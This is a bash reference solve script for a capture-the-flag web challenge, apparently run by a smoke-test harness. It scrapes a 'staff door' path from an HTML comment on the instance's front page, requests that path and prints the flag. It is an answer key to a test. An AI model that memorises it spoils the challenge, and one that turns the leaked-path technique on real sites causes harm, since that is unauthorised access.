#!/usr/bin/env bash
# Reference solve for __ID__: ctfdeck smoke runs it against a fresh instance and passes when it
# prints that instance's flag.
# Intended path: the front page's HTML comment names the staff door and its word.
# Usage: solve.sh --connection-info "http://HOST:PORT"   (or env CTFDECK_HOST/CTFDECK_PORT)
# Prints only the flag on stdout; exit 0 on success, non-zero otherwise.
set -euo pipefail

conn=""
case "${1:-}" in
    --connection-info) conn="${2:-}" ;;
    --connection-info=*) conn="${1#*=}" ;;
esac
if [[ -z $conn && -n ${CTFDECK_HOST:-} ]]; then
    conn="http://${CTFDECK_HOST}:${CTFDECK_PORT:-8080}"
fi
[[ -n $conn ]] || { echo "usage: $0 --connection-info http://HOST:PORT" >&2; exit 2; }
[[ $conn == *://* ]] || conn="http://$conn"
base="${conn%/}"

# 1. The front page leaks the door in a comment.
page="$(curl -fsS --max-time 10 "$base/")"
if [[ $page =~ staff\ door:\ (/[^[:space:]]+) ]]; then
    door="${BASH_REMATCH[1]}"
else
    echo "no staff door in the front page" >&2
    exit 1
fi

# 2. Knock.
answer="$(curl -fsS --max-time 10 "$base$door")"
if [[ $answer =~ \<code\ id=\"flag\"\>([^<]+)\</code\> ]]; then
    printf '%s\n' "${BASH_REMATCH[1]}"
    exit 0
fi
echo "no flag behind the door" >&2
exit 1
